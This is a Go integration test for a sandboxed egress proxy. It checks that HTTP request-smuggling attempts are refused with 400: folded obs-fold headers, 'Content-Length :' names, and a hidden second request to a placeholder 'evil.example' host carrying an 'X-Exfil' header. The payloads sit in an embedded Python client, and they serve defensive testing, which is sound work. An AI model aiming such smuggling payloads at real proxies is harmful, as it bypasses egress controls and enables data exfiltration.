package integration

// From an attack review (26): a header line a server unfolds (obs-fold) or reads
// otherwise than the proxy ("Content-Length : N") no longer frames a body the server
// takes for a second request, which could name any Host.

import (
	"bufio"
	"fmt"
	"net"
	"strconv"
	"strings"
	"sync"
	"testing"
)

// foldingServer is a keep-alive HTTP/1.1 server as lenient as RFC 9112 5.2 lets a
// server be: an obs-fold line joins the field before it, names are trimmed,
// Connection: close is ignored, a body is framed by Content-Length. It records the
// request line and Host of each request it reads.
type foldingServer struct {
	mu   sync.Mutex
	reqs []string
}

func (s *foldingServer) serve(l net.Listener) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go s.conn(c)
	}
}

func (s *foldingServer) conn(c net.Conn) {
	defer c.Close()
	br := bufio.NewReader(c)
	line := func() (string, bool) {
		l, err := br.ReadString('\n')
		return strings.TrimRight(l, "\r\n"), err == nil
	}
	for {
		rl, ok := line()
		if !ok {
			return
		}
		if rl == "" {
			continue
		}
		var fields []string
		for {
			l, ok := line()
			if !ok {
				return
			}
			if l == "" {
				break
			}
			if (l[0] == ' ' || l[0] == '\t') && len(fields) > 0 {
				fields[len(fields)-1] += " " + strings.TrimSpace(l)
				continue
			}
			fields = append(fields, l)
		}
		host, length := "", 0
		for _, f := range fields {
			k, v, _ := strings.Cut(f, ":")
			switch strings.ToLower(strings.TrimSpace(k)) {
			case "host":
				host = strings.TrimSpace(v)
			case "content-length":
				length, _ = strconv.Atoi(strings.TrimSpace(v))
			}
		}
		s.mu.Lock()
		s.reqs = append(s.reqs, fmt.Sprintf("%s host=%q", rl, host))
		s.mu.Unlock()
		if _, err := br.Discard(length); err != nil {
			return
		}
		fmt.Fprint(c, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
	}
}

// foldClient sends, through the HTTP proxy (3128) and to the captured loopback port,
// the review's requests, each on its own connection, and prints each answer's status
// line; then a plain GET /plain through the proxy.
const foldClient = `
import socket, sys
port = int(sys.argv[1])
sm = b"GET /secret HTTP/1.1\r\nHost: evil.example\r\nX-Exfil: data\r\n\r\n"
u = b"http://127.0.0.1:%d" % port
reqs = [
    (3128, b"POST " + u + b"/ok HTTP/1.1\r\nX-A: a\r\n Content-Length: %d\r\n\r\n" % len(sm) + sm),
    (3128, b"POST " + u + b"/ok HTTP/1.1\r\nContent-Length : %d\r\n\r\n" % len(sm) + sm),
    (3128, b"GET " + u + b"/h HTTP/1.1\r\n\t.evil.example\r\n\r\n"),
    (port, b"POST /ok HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: a\r\n Content-Length: %d\r\n\r\n" % len(sm) + sm),
    (port, b"GET /h HTTP/1.1\r\nX: a\r\n Host: 127.0.0.1\r\n\r\n"),
    (3128, b"GET " + u + b"/plain HTTP/1.1\r\n\r\n"),
]
for p, req in reqs:
    s = socket.create_connection(("127.0.0.1", p))
    s.sendall(req)
    s.shutdown(socket.SHUT_WR)
    got = b""
    while True:
        d = s.recv(4096)
        if not d:
            break
        got += d
    print(p, got.split(b"\r\n")[0].decode())
`

// Through --allow-host 127.0.0.1:PORT, a folding keep-alive server gets only the
// plain request: each folded or "Name :" head is answered 400 by the proxy (the
// HTTP proxy and the captured port) and reaches nothing.
func TestEgressFoldedHeadRefused(t *testing.T) {
	requireBinary(t)
	s := newSandbox(t, rootCaller)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	t.Cleanup(func() { l.Close() })
	srv := &foldingServer{}
	go srv.serve(l)
	hp := l.Addr().(*net.TCPAddr).Port
	r := s.run("--net", "proxy", "--allow-host", fmt.Sprintf("127.0.0.1:%d", hp), "--", python, "-c", foldClient, strconv.Itoa(hp))
	mustSucceed(t, r, "folded heads through the proxy")
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if len(lines) != 6 {
		t.Fatalf("want 6 answers\n%v", r)
	}
	for i, line := range lines[:5] {
		if !strings.HasSuffix(line, " HTTP/1.1 400 Bad Request") {
			t.Errorf("request %d: %q, want a 400", i, line)
		}
	}
	if !strings.HasSuffix(lines[5], " HTTP/1.1 200 OK") {
		t.Errorf("the plain request: %q, want a 200", lines[5])
	}
	srv.mu.Lock()
	defer srv.mu.Unlock()
	want := fmt.Sprintf("[GET /plain HTTP/1.1 host=\"127.0.0.1:%d\"]", hp)
	if got := fmt.Sprint(srv.reqs); got != want {
		t.Errorf("the server read %s, want %s only\n%v", got, want, r)
	}
}
